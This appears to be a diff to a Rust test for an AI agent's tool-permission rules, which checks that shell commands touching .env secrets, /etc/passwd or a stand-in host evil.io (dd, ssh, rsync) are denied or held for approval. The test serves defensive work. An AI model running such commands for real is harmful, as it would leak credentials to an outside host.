@@ -113,12 +113,12 @@ async fn an_exact_rule_lets_through_what_is_not_known() {
 async fn the_words_of_a_program_are_held_against_rules() {
     let given = "-Read(.env); -Edit(locked/**); ?Read(*.pem); -WebFetch(domain:evil.io)";
     for (mode, allow) in [("default", "; +Bash"), ("bypassPermissions", "")] {
-        let session = with(rules(&format!("{given}{allow}; +Bash(awk 2 .env)"))).mode(mode).open();
+        let session = with(rules(&format!("{given}{allow}; +Bash(nroff -x .env)"))).mode(mode).open();
         session.room.write("work/locked/x", "x");
         std::os::unix::fs::symlink(session.room.at("work/locked"), session.room.at("work/fine")).unwrap();
         session
             .holds(
-                "ask Bash awk 1 .env
+                "ask Bash nroff .env
                  deny Bash dd if=.env of=x
                  ask Bash tool -f.env
                  ask Bash tool --file=src/.env
@@ -132,8 +132,8 @@ async fn the_words_of_a_program_are_held_against_rules() {
                  deny Bash ssh me@EVIL.io
                  ask Bash http https:evil.io
                  deny Bash rsync a evil.io:x
-                 allow Bash awk 2 .env
-                 allow Bash awk 1 a.txt
+                 allow Bash nroff -x .env
+                 allow Bash nroff a.txt
                  allow Bash tool --file=src/env
                  allow Bash nc good.io 80
                  allow Bash echo .env evil.io
@@ -144,7 +144,7 @@ async fn the_words_of_a_program_are_held_against_rules() {
     let mut settings = rules("+Bash");
     settings["permissions"]["blockReadsOutsideWorkingDirectories"] = json!(true);
     let session = with(settings).open();
-    session.holds("ask Bash awk 1 /etc/passwd\nask Bash awk 1 ../x\nallow Bash awk 1 src/../a.txt").await;
+    session.holds("ask Bash nroff /etc/passwd\nask Bash awk 1 ../x\nallow Bash awk 1 src/../a.txt").await;
 }
 
 /// Nothing lifts a block, so nothing but a yes lets through what may lie outside.
